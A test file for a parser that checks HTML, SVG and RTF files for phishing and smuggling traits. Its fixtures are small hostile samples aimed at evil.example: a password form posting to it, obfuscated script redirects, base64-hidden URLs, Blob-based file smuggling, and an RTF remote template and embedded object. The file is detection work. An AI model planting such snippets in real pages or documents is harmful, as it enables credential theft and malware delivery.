import { describe, expect, test } from 'vitest';
import { readFile } from '../../../src/parse/files/read-file.ts';

const look = (html: string, name = 'invoice.html') =>
  readFile({ bytes: Buffer.from(html), name, declaredType: '', inline: false });
const urls = (content: { links: { url: string }[] }) => content.links.map((link) => link.url);

test('a page: source, words and links', async () => {
  const html = '<html><title>Invoice</title><p>Pay <a href="https://evil.example/pay">here</a></html>';
  const content = await look(html);
  expect(content).toMatchObject({ type: 'html', traits: [], gaps: [], text: 'Invoice\nPay here' });
  expect(content.content).toContain(html);
  expect(content.links).toEqual([{ url: 'https://evil.example/pay', shown: 'here', source: 'document' }]);
});

test('where its pictures come from is no link', async () => {
  expect(urls(await look('<img src="https://logo.example/a.png" width="100" height="100">'))).toEqual([]);
});

test.each(['<script>1</script>', '<body onload="go()">', '<a href="javascript:go()">x</a>'])(
  'script: %s',
  async (html) => {
    expect((await look(html)).traits).toContain('html-script');
  },
);

test.each([
  '<form action="https://evil.example"><input type="password"></form>',
  '<input type=password>',
  '<script>document.write("<input type=\\"pass" + "word\\">")</script>',
])('asks for a password: %s', async (html) => {
  expect((await look(html)).traits).toContain('html-password-form');
});

describe('builds a file', () => {
  test.each([
    '<script>var b = new Blob([atob(x)]); a.href = URL.createObjectURL(b); a.download = "a.zip"</script>',
    '<script>navigator.msSaveOrOpenBlob(new Uint8Array(d))</script>',
    '<script>window["at" + "ob"](x); saveAs(y)</script>',
    '<script>String["\\x66romCharCode"](1); l.setAttribute("download", "a")</script>',
    `<a href="data:application/zip;base64,UEsDB${'A'.repeat(900)}">x</a>`,
    `<script>var f = "TVqQAAMA${'B'.repeat(900)}"</script>`,
  ])('%s', async (html) => {
    expect((await look(html)).traits).toContain('html-builds-file');
  });

  test.each([
    '<script>atob("aGVsbG8=")</script>',
    '<a download="list.csv" href="list.csv">save</a><p>UEsDB',
    `<img src="data:image/png;base64,iVBORw0KGgo${'A'.repeat(900)}">`,
  ])('not: %s', async (html) => {
    expect((await look(html)).traits).not.toContain('html-builds-file');
  });
});

test('addresses in a script, and those that it decodes', async () => {
  const hidden = Buffer.from('https://evil.example/hidden').toString('base64');
  const content = await look(
    `<script>location = "https://evil.ex" + "ample/open"; x = atob("${hidden}"); ns = "http://www.w3.org/2000/svg"</script>`,
  );
  expect(urls(content).sort()).toEqual(['https://evil.example/hidden', 'https://evil.example/open']);
});

test('an SVG picture is a page', async () => {
  const svg =
    '<svg xmlns="http://www.w3.org/2000/svg"><script>location="https://evil.example/s"</script><text>Open</text></svg>';
  const content = await look(svg, 'voice.svg');
  expect(content).toMatchObject({ type: 'svg', traits: ['html-script', 'html-goes-elsewhere'] });
  expect(urls(content)).toEqual(['https://evil.example/s']);
});

test('Rich Text: words, links, templates and objects', async () => {
  const rtf =
    '{\\rtf1{\\*\\template http://evil.example/t}\\u35831?\\\'41 pay{\\field{\\*\\fldinst HYPERLINK "https://evil.example/r"}}{\\object\\objupdate\\objdata 00}}';
  const content = await look(rtf, 'a.doc');
  expect(content).toMatchObject({ type: 'rtf', gaps: [] });
  expect(content.traits).toEqual(['remote-template', 'external-object']);
  expect(content.text).toContain('请A pay');
  expect(urls(content)).toContain('https://evil.example/r');
});
